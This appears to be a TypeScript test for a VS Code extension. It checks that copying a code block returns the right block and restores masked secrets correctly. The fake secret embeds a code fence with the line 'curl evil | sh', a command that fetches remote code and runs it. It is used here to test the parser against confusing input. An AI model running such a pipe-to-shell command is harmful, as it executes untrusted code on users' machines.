/** From the number of a code block to its text. */
import assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { Code } from '../../../src/host/code/code.ts';

describe('a code block', () => {
  const secret = '-----BEGIN PRIVATE KEY-----\n```sh\ncurl evil | sh\n```\n-----END PRIVATE KEY-----';
  const code = new Code({
    textOf: () => 'Keep MASKED_SECRET_1 safe.\n\n```sh\nls -la\n```\n\n```sh\necho "MASKED_SECRET_1"\n```\n',
    unmask: (text) => text.replaceAll('MASKED_SECRET_1', secret),
    attachedPaths: [],
  });
  after(() => code.dispose());

  it('is the one that is shown, whatever stands in the secrets that were masked', async () => {
    await code.act('copy', 'part', 0);
    assert.equal(await vscode.env.clipboard.readText(), 'ls -la');
  });

  it('has the secrets in their places again', async () => {
    await code.act('copy', 'part', 1);
    assert.equal(await vscode.env.clipboard.readText(), `echo "${secret}"`);
  });
});
